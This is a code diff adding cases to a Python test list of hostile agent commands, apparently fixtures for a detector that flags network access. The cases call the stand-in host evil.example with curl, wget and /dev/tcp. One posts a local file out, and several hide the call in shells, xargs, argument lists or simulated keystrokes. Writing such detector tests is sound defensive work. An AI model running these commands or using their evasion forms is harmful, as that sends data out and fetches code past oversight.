@@ -168,6 +168,8 @@ HOSTILE: list[tuple[str, list[Json], set[str]]] = [
     ("curl behind a local address", [bash("curl http://localhost:1/ https://evil.example/")], {"network"}),
     ("curl through a shell", [bash("bash -lc 'cd /tmp && (wget -q https://evil.example/a.tgz)'")], {"network"}),
     ("curl by argv", [tool("shell", command=["bash", "-lc", "curl https://evil.example"])], {"network"}),
+    ("curl in a list of scripts", [tool("run", commands=["ls", "curl https://evil.example"])], {"network"}),
+    ("curl as keystrokes", [tool("terminal", commands=[{"keystrokes": "curl https://evil.example\n"}])], {"network"}),
     ("curl by xargs", [bash("echo https://evil.example | xargs -n 1 curl -d @/tmp/x https://evil.example")], {"network"}),
     ("curl in a here-document to a shell", [bash("sh <<EOF\nwget https://evil.example\nEOF")], {"network"}),
     ("dev tcp", [bash("exec 3<>/dev/tcp/evil.example/80; cat <&3")], {"network"}),
